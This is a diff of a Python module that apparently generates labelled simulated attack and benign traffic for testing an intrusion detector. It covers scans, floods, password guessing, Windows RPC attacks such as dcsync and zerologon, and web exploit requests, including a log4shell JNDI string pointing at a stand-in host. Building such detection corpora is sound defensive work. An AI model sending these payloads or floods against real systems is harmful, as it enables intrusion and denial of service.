@@ -1,6 +1,7 @@
 # SPDX-License-Identifier: Apache-2.0
 """Attacks of many kinds as packets, and honest traffic that looks a little like them."""
 import struct
+import uuid
 
 from packets import dns, raw
 
@@ -8,10 +9,16 @@ ATTACKS, HONEST = [], []
 
 
 def attack(verdict, within=10.0):
+    """`verdict` is the class that it shall be given, or the sign; None: any."""
     def add(fn):
         ATTACKS.append((fn.__name__, verdict, within, fn))
         return fn
     return add
+
+
+def kind(verdict, name, make, *what, within=10.0, **how):
+    """An attack that is `make` with these arguments."""
+    ATTACKS.append((name, verdict, within, lambda w: make(w, *what, **how)))
 
 
 def honest(fn):
@@ -29,19 +36,9 @@ def scan(w, flags, reply, n=60, gap=0.02, src=0, six=False):
             w.tcp(i * gap + 0.001, b, 20 + i * 7, a, 40000, reply, ack=2)
 
 
-@attack("Probe")
-def syn_scan(w):
-    scan(w, "S", "RA")
-
-
-@attack("Probe")
-def syn_scan_filtered(w):
-    scan(w, "S", "")
-
-
-@attack("Probe")
-def syn_scan_6(w):
-    scan(w, "S", "RA", six=True)
+kind("Probe", "syn_scan", scan, "S", "RA")
+kind("Probe", "syn_scan_filtered", scan, "S", "")
+kind("Probe", "syn_scan_6", scan, "S", "RA", six=True)
 
 
 @attack("Probe")
@@ -56,34 +53,12 @@ def scan_of_which_answers_are_heard(w):
         w.tcp(i * 0.02, w.host(9), 20 + i * 7, w.host(0), 40000, "RA", ack=2)
 
 
-@attack("Probe")
-def ack_scan(w):
-    scan(w, "A", "R")
-
-
-@attack("Probe")
-def ack_scan_filtered(w):
-    scan(w, "A", "")
-
-
-@attack("Probe")
-def maimon_scan(w):
-    scan(w, "FA", "R")
-
-
-@attack("Probe")
-def null_scan(w):
-    scan(w, "", "RA")
-
-
-@attack("Probe")
-def fin_scan(w):
-    scan(w, "F", "RA")
-
-
-@attack("Probe")
-def xmas_scan(w):
-    scan(w, "FPU", "RA")
+kind("Probe", "ack_scan", scan, "A", "R")
+kind("Probe", "ack_scan_filtered", scan, "A", "")
+kind("Probe", "maimon_scan", scan, "FA", "R")
+kind("Probe", "null_scan", scan, "", "RA")
+kind("Probe", "fin_scan", scan, "F", "RA")
+kind("Probe", "xmas_scan", scan, "FPU", "RA")
 
 
 @attack("Probe")
@@ -92,14 +67,8 @@ def decoy_scan(w):
         scan(w, "S", "RA", n=30, src=decoy)
 
 
-@attack("Probe")
-def polite_scan(w):
-    scan(w, "S", "RA", n=40, gap=0.4)
-
-
-@attack("Probe", 200)
-def sneaky_scan(w):
-    scan(w, "S", "RA", n=20, gap=15)
+kind("Probe", "polite_scan", scan, "S", "RA", n=40, gap=0.4)
+kind("Probe", "sneaky_scan", scan, "S", "RA", n=20, gap=15, within=200)
 
 
 @attack("Probe")
@@ -206,29 +175,11 @@ def tcp_flood(w, flags, n=1000, data=b"", ports=False, one=False, same=False):
               w.random.randrange(1, 65535) if ports else 80, flags, data, seq=i * 77)
 
 
-@attack("DoS")
-def syn_flood_spoofed(w):
-    tcp_flood(w, "S")
-
-
-@attack("DoS")
-def syn_flood_one_source(w):
-    tcp_flood(w, "S", one=True)
-
-
-@attack("DoS")
-def syn_flood_random_ports(w):
-    tcp_flood(w, "S", ports=True)
-
-
-@attack("DoS")
-def syn_flood_one_connection(w):
-    tcp_flood(w, "S", one=True, same=True)
-
-
-@attack("DoS")
-def syn_flood_with_data(w):
-    tcp_flood(w, "S", data=b"x" * 500)
+kind("DoS", "syn_flood_spoofed", tcp_flood, "S")
+kind("DoS", "syn_flood_one_source", tcp_flood, "S", one=True)
+kind("DoS", "syn_flood_random_ports", tcp_flood, "S", ports=True)
+kind("DoS", "syn_flood_one_connection", tcp_flood, "S", one=True, same=True)
+kind("DoS", "syn_flood_with_data", tcp_flood, "S", data=b"x" * 500)
 
 
 @attack("DoS")
@@ -237,39 +188,13 @@ def syn_flood_6(w):
         w.tcp(i * 0.002, "2001:db8:%x::1" % i, 1024 + i, w.host6(9), 443, "S")
 
 
-@attack("DoS")
-def ack_flood_spoofed(w):
-    tcp_flood(w, "A")
-
-
-@attack("DoS")
-def ack_flood_random_ports(w):
-    tcp_flood(w, "A", ports=True)
-
-
-@attack("DoS")
-def ack_flood_one_connection(w):
-    tcp_flood(w, "A", one=True, same=True, n=2000)
-
-
-@attack("DoS")
-def rst_flood(w):
-    tcp_flood(w, "R")
-
-
-@attack("DoS")
-def fin_ack_flood(w):
-    tcp_flood(w, "FA")
-
-
-@attack("DoS")
-def push_flood_with_data(w):
-    tcp_flood(w, "PA", data=b"x" * 100)
-
-
-@attack("DoS")
-def synack_flood(w):
-    tcp_flood(w, "SA")
+kind("DoS", "ack_flood_spoofed", tcp_flood, "A")
+kind("DoS", "ack_flood_random_ports", tcp_flood, "A", ports=True)
+kind("DoS", "ack_flood_one_connection", tcp_flood, "A", one=True, same=True, n=2000)
+kind("DoS", "rst_flood", tcp_flood, "R")
+kind("DoS", "fin_ack_flood", tcp_flood, "FA")
+kind("DoS", "push_flood_with_data", tcp_flood, "PA", data=b"x" * 100)
+kind("DoS", "synack_flood", tcp_flood, "SA")
 
 
 @attack("DoS")
@@ -279,19 +204,9 @@ def synack_flood_answered(w):
         w.tcp(i * 0.005 + 0.0001, w.host(9), 1024 + i, w.outside(i % 60), 443, "R", seq=1)
 
 
-@attack(None)
-def fin_flood(w):
-    tcp_flood(w, "F")
-
-
-@attack(None)
-def xmas_flood(w):
-    tcp_flood(w, "FPU", one=True)
-
-
-@attack(None)
-def xmas_flood_one_connection(w):
-    tcp_flood(w, "FPU", one=True, same=True)
+kind(None, "fin_flood", tcp_flood, "F")
+kind(None, "xmas_flood", tcp_flood, "FPU", one=True)
+kind(None, "xmas_flood_one_connection", tcp_flood, "FPU", one=True, same=True)
 
 
 @attack("DoS")
@@ -328,6 +243,18 @@ def udp_flood_several_ports(w):
 def udp_fragment_flood(w):
     for i in range(1000):
         w.ip(i * 0.002, spoofed(w, i), w.host(9), 17, b"x" * 512, fragment=185)
+
+
+@attack("fragment-flood")
+def fragment_flood(w):
+    for i in range(4000):
+        w.ip(i * 0.001, w.host(0), w.host(9), 6, b"x" * 512, fragment=185, ident=1 + i)
+
+
+@attack("udp-babble")
+def babble_at_a_name_server(w):
+    for i in range(1000):
+        w.udp(i * 0.002, w.host(0), 4000, w.host(9), 53, b"\xff" * 8)
 
 
 @attack("DoS")
@@ -383,6 +310,13 @@ def teardrop(w):
     for i in range(5):
         w.ip(i, w.host(0), w.host(9), 17, b"x" * 36, fragment=0x2000, ident=242 + i)
         w.ip(i + 0.01, w.host(0), w.host(9), 17, b"x" * 4, fragment=3, ident=242 + i)
+
+
+@attack("overlapping-fragments")
+def fragments_that_say_anew(w):
+    for i in range(5):
+        w.ip(i, w.host(0), w.host(9), 17, b"x" * 40, fragment=0x2000, ident=242 + i)
+        w.ip(i + 0.01, w.host(0), w.host(9), 17, b"y" * 40, fragment=3, ident=242 + i)
 
 
 @attack("DoS")
@@ -455,20 +389,14 @@ def stay(w, lines, port=80, n=60, window=8192):
               seq=1001 + sum(len(d) for mine, d in lines if mine), ack=5001, window=window)
 
 
-@attack("DoS", 30)
-def slow_headers(w):
-    stay(w, [(True, b"GET / HTTP/1.1\r\nHost: x\r\n")])
-
-
-@attack("DoS", 30)
-def slow_bodies(w):
-    stay(w, [(True, b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 100000\r\n\r\na")], port=8000)
-
-
-@attack("DoS", 30)
-def slow_reading(w):
-    stay(w, [(True, b"GET /big HTTP/1.1\r\nHost: x\r\n\r\n"),
-             (False, b"HTTP/1.1 200 OK\r\nContent-Length: 100000\r\n\r\n" + b"x" * 500)], window=0)
+kind("DoS", "slow_headers", stay, [(True, b"GET / HTTP/1.1\r\nHost: x\r\n")], within=30)
+kind("DoS", "slow_bodies", stay,
+     [(True, b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 100000\r\n\r\na")],
+     port=8000, within=30)
+kind("DoS", "slow_reading", stay,
+     [(True, b"GET /big HTTP/1.1\r\nHost: x\r\n\r\n"),
+      (False, b"HTTP/1.1 200 OK\r\nContent-Length: 100000\r\n\r\n" + b"x" * 500)],
+     window=0, within=30)
 
 
 @attack("DoS")
@@ -506,24 +434,26 @@ AMPLIFIED = {
 }
 
 
-def reflected(name, hosts):
-    def flood(w):
-        port, answer = AMPLIFIED[name]
-        for i in range(400):
-            w.udp(i * 0.005, w.outside(i % hosts), port, w.host(9), 34567, answer)
-    flood.__name__ = "%s_reflection_by_%d" % (name, hosts)
-    return flood
+def reflected(w, hosts, port, answer):
+    for i in range(400):
+        w.udp(i * 0.005, w.outside(i % hosts), port, w.host(9), 34567, answer)
 
 
-for service in AMPLIFIED:
-    attack("DoS")(reflected(service, 50))
-    attack("DoS")(reflected(service, 3))
+for service, said in AMPLIFIED.items():
+    for many in (50, 3):
+        kind("DoS", "%s_reflection_by_%d" % (service, many), reflected, many, *said)
 
 
 @attack("DoS")
 def tcp_reflection_at_the_victim(w):
     for i in range(400):
         w.tcp(i * 0.01, w.outside(i % 60), 443, w.host(9), 1024 + i, "SA", ack=1)
+
+
+@attack("long-syn-reflection")
+def tcp_reflection_by_six(w):
+    for i in range(240):
+        w.tcp(i * 0.02, w.outside(i % 6), 443, w.host(9), 1024 + i % 6, "SA", ack=1)
 
 
 @attack("DoS")
@@ -542,53 +472,55 @@ def questions_for_all_records(w):
 
 # ---- passwords -----------------------------------------------------------------------
 
-def guess(w, port, lines, n=30, gap=0.3):
-    for i in range(n):
-        w.talk(i * gap, w.host(0), 20000 + i, w.host(9), port, lines)
+REFUSED_BY_FTP = [(False, b"220 FTP ready\r\n"), (True, b"USER a\r\n"),
+                  (False, b"331 Password\r\n"), (True, b"PASS b\r\n"),
+                  (False, b"530 Login incorrect\r\n")]
+SOME_PAGE = (False, b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nno")
+
+# Port, and what is said each time.
+GUESSED = {
+    "ftp_guessing": (21, REFUSED_BY_FTP),
+    "ssh_guessing": (
+        22, [(True, b"SSH-2.0-x\r\n"), (False, b"SSH-2.0-OpenSSH_9\r\n"),
+             (True, b"\0\0\4\x0c\x04\x14" + b"k" * 1200),
+             (False, b"\0\0\4\x0c\x04\x14" + b"k" * 900)]),
+    "telnet_guessing": (
+        23, [(False, b"\xff\xfd\x18login: "), (True, b"root\r\n"), (False, b"Password: "),
+             (True, b"admin\r\n"), (False, b"\r\nLogin incorrect\r\n")]),
+    "basic_guessing": (
+        80, [(True, b"GET /x HTTP/1.1\r\nHost: x\r\nAuthorization: Basic eDp5\r\n\r\n"),
+             (False, b"HTTP/1.1 401 Unauthorized\r\nContent-Length: 0\r\n\r\n")]),
+    "form_guessing": (
+        80, [(True, b"POST /login HTTP/1.1\r\nHost: x\r\nContent-Length: 30\r\n\r\n"
+              b"username=admin&password=letmein"), SOME_PAGE]),
+    "form_guessing_in_the_address": (
+        80, [(True, b"GET /brute/?username=admin&password=x&Login=Login HTTP/1.1\r\n"
+              b"Host: x\r\n\r\n"), SOME_PAGE]),
+    "ldap_guessing": (
+        389, [(True, b"\x30\x16\x02\x01\x01\x60\x11\x02\x01\x03\x04\x04cn=a\x80\x06secret"),
+              (False, b"\x30\x0c\x02\x01\x01\x61\x07\x0a\x01\x31\x04\0\x04\0")]),
+}
 
 
-@attack("R2L")
-def ftp_guessing(w):
-    guess(w, 21, [(False, b"220 FTP ready\r\n"), (True, b"USER a\r\n"), (False, b"331 Password\r\n"),
-                  (True, b"PASS b\r\n"), (False, b"530 Login incorrect\r\n")])
+def guess(w, port, lines):
+    for i in range(30):
+        w.talk(i * 0.3, w.host(0), 20000 + i, w.host(9), port, lines)
 
 
-@attack("R2L")
-def ssh_guessing(w):
-    guess(w, 22, [(True, b"SSH-2.0-x\r\n"), (False, b"SSH-2.0-OpenSSH_9\r\n"),
-                  (True, b"\0\0\4\x0c\x04\x14" + b"k" * 1200), (False, b"\0\0\4\x0c\x04\x14" + b"k" * 900)])
+for name, said in GUESSED.items():
+    kind("R2L", name, guess, *said)
 
 
-@attack("R2L")
-def telnet_guessing(w):
-    guess(w, 23, [(False, b"\xff\xfd\x18login: "), (True, b"root\r\n"), (False, b"Password: "),
-                  (True, b"admin\r\n"), (False, b"\r\nLogin incorrect\r\n")])
+@attack("slow-guessing", 800)
+def guessing_three_a_minute(w):
+    for i in range(50):
+        w.talk(i * 20, w.host(0), 20000 + i, w.host(9), 21, REFUSED_BY_FTP)
 
 
-@attack("R2L")
-def basic_guessing(w):
-    guess(w, 80, [(True, b"GET /x HTTP/1.1\r\nHost: x\r\nAuthorization: Basic eDp5\r\n\r\n"),
-                  (False, b"HTTP/1.1 401 Unauthorized\r\nContent-Length: 0\r\n\r\n")])
-
-
-@attack("R2L")
-def form_guessing(w):
-    guess(w, 80, [(True, b"POST /login HTTP/1.1\r\nHost: x\r\nContent-Length: 30\r\n\r\n"
-                   b"username=admin&password=letmein"),
-                  (False, b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nno")])
-
-
-@attack("R2L")
-def form_guessing_in_the_address(w):
-    guess(w, 80, [(True, b"GET /brute/?username=admin&password=x&Login=Login HTTP/1.1\r\nHost: x\r\n\r\n"),
-                  (False, b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nno")])
-
-
-@attack("R2L")
-def ldap_guessing(w):
-    bind = b"\x30\x16\x02\x01\x01\x60\x11\x02\x01\x03\x04\x04cn=a\x80\x06secret"
-    bad = b"\x30\x0c\x02\x01\x01\x61\x07\x0a\x01\x31\x04\0\x04\0"
-    guess(w, 389, [(True, bind), (False, bad)])
+@attack("password-spraying")
+def one_password_at_many_sites(w):
+    for i in range(30):
+        w.talk(i * 0.2, w.host(0), 20000 + i, w.host(20 + i), 80, GUESSED["basic_guessing"][1])
 
 
 @attack("R2L")
@@ -601,9 +533,7 @@ def community_guessing(w):
 @attack("R2L")
 def one_password_at_many_hosts(w):
     for i in range(40):
-        w.talk(i * 0.2, w.host(0), 20000 + i, w.host(20 + i), 21,
-               [(False, b"220 FTP ready\r\n"), (True, b"USER a\r\n"), (False, b"331 Password\r\n"),
-                (True, b"PASS b\r\n"), (False, b"530 Login incorrect\r\n")])
+        w.talk(i * 0.2, w.host(0), 20000 + i, w.host(20 + i), 21, REFUSED_BY_FTP)
 
 
 @attack("R2L")
@@ -616,12 +546,13 @@ def name_poisoning(w):
 
 # ---- the web -------------------------------------------------------------------------
 
+def ask(w, text):
+    w.talk(0, w.host(0), 20000, w.host(9), 80,
+           [(True, text), (False, b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")])
+
+
 def request(name, text):
-    def send(w):
-        w.talk(0, w.host(0), 20000, w.host(9), 80,
-               [(True, text), (False, b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")])
-    send.__name__ = name
-    attack("R2L")(send)
+    kind("R2L", name, ask, text)
 
 
 request("log4shell", b"GET / HTTP/1.1\r\nHost: x\r\nUser-Agent: ${jndi:ldap://x/a}\r\n\r\n")
@@ -640,6 +571,44 @@ request("php_by_eval", b"POST /vendor/phpunit/src/Util/PHP/eval-stdin.php HTTP/1
 request("spring4shell", b"POST / HTTP/1.1\r\nHost: x\r\n\r\nclass.module.classLoader.resources=1")
 request("router_exploit", b"POST /GponForm/diag_Form?images/ HTTP/1.1\r\nHost: x\r\n\r\n")
 request("struts", b"GET / HTTP/1.1\r\nHost: x\r\nContent-Type: %{(#a='multipart/form-data')}\r\n\r\n")
+
+
+kind("web-scanner", "scanner", ask, b"GET / HTTP/1.1\r\nHost: x\r\nUser-Agent: sqlmap/1.7\r\n\r\n")
+
+
+# ---- Windows, names ------------------------------------------------------------------
+
+def call(w, interface, *numbers):
+    """Remote calls after a bind (C706, 12.6.4)."""
+    said = [(True, b"\5\0\x0b\3\x10\0\0\0\x48\0\0\0\1\0\0\0" + b"\xb8\x10\xb8\x10\0\0\0\0"
+             b"\1\0\0\0\0\0\1\0" + uuid.UUID(interface).bytes_le + b"\1\0\0\0" + b"\0" * 20),
+            (False, b"\5\0\x0c\3\x10\0\0\0" + b"\0" * 52)]
+    for n in numbers:
+        said += [(True, b"\5\0\0\3\x10\0\0\0\x40\0\0\0\2\0\0\0\x28\0\0\0\0\0" +
+                  struct.pack("<H", n) + b"x" * 40),
+                 (False, b"\5\0\2\3\x10\0\0\0" + b"\0" * 24)]
+    w.talk(0, w.host(0), 40000, w.host(9), 49152, said)
+
+
+kind("remote-execution", "service_made", call, "367abb81-9844-35f1-ad32-98f038001003", 12)
+kind("forced-login", "printer_bug", call, "12345678-1234-abcd-ef00-0123456789ab", 65)
+kind("remote-secrets", "dcsync", call, "e3514235-4b06-11d1-ab04-00c04fc2dcd2", 3)
+kind("remote-log-clearing", "log_cleared", call, "82273fdc-e32a-18c3-3f78-827929dc23ea", 0)
+kind("remote-enumeration", "shares_listed", call, "4b324fc8-1670-01d3-1278-5a47bf6ee188", 15)
+kind("zerologon", "zerologon", call, "12345678-1234-abcd-ef00-01234567cffb", *[4] * 20)
+
+
+@attack("smb-exploit")
+def smb_of_impossible_size(w):
+    w.talk(0, w.host(0), 40000, w.host(9), 445,
+           [(True, b"\0\0\0\x44\xfeSMB\x40\0" + b"\0" * 58),
+            (False, b"\0\0\0\x44\xfeSMB\x40\0" + b"\0" * 58),
+            (True, b"\0\0\0\x20\xfcSMB\xff\xff\xff\xff\1\0\0\0\xff\xff\xff\xff" + b"x" * 16)])
+
+
+@attack("dns-exploit")
+def question_for_a_signature(w):
+    w.udp(0, w.host(0), 40000, w.host(9), 53, dns("9.example.org", 24))
 
 
 # ---- tunnels, masters ----------------------------------------------------------------
@@ -791,4 +760,5 @@ def a_server_that_is_down(w):
 def a_traceroute(w):
     for i in range(30):
         w.udp(i * 0.1, w.host(0), 40000, w.outside(9), 33434 + i, b"x" * 32)
-        w.icmp(i * 0.1 + 0.05, w.outside(20 + i), w.host(0), 11, 0, data=b"E" * 36)
+        asked = w.packets[-1][1][14:42]  # RFC 792: its header and 8 bytes more
+        w.icmp(i * 0.1 + 0.05, w.outside(20 + i), w.host(0), 11, 0, data=asked)
